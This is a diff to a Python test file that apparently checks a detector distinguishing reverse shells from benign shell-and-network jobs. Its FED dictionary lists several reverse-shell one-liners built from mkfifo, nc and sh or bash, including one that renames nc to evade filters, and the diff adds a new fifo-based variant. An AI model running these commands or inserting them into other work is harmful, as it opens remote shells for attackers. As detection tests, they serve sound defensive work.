@@ -39,6 +39,7 @@ FED = {
     "netcat-by-another-name": "mkfifo f; cp $(readlink -f $(which nc)) ./updater; sh < f 2>&1 | ./updater {host} {port} > f",
     "as-everybody-types-it": "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc {host} {port} > f",
     "through-filters": "mkfifo f; cat -u < f | bash 2>&1 | cat -u | nc {host} {port} > f",
+    "a-fifo-kept-open": "mkfifo f; exec 7<>f; sh <&7 2>&1 | nc {host} {port} >&7",
     "an-interpreter": "mkfifo f; {python} -i -u < f 2>&1 | nc {host} {port} > f",
     "commands-by-eval": "mkfifo f; while read -r line; do eval \"$line\"; done < f 2>&1 | nc {host} {port} > f",
 }  # fmt: skip
@@ -151,6 +152,8 @@ print("done")
 """
 HONEST = {
     "an installer": "for i in 1 2 3; do nc -N {host} {port} < request | sh; done | tee log; echo done",
+    "installers by turns": "mkfifo s; exec 9<>s; echo >&9;"
+    "for i in 1 2 3; do read -u 9; nc -N {host} {port} < request | sh; echo >&9; done; echo done",
     "a filter to a log host": "for i in $(seq 25); do echo $i; sleep 0.1; done | rev | nc -N {host} {port} > answer; echo done",
     "an agent with a shell of its own": "exec {python} agent.py {host} {port}",
     "an agent that runs its tools": "exec {python} tools.py {host} {port}",
@@ -174,7 +177,7 @@ def test_honest_work_with_a_shell_beside_a_connection(
         job = shared_daemon.spawn(
             "job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path, stdout=subprocess.PIPE, text=True
         )
-        for _ in range(3 if "installer" in line or "for i in 1 2 3" in line else 1):
+        for _ in range(3 if "for i in 1 2 3" in line else 1):
             served = hub.accept()
             with contextlib.suppress(OSError):
                 while served.recv(4096):
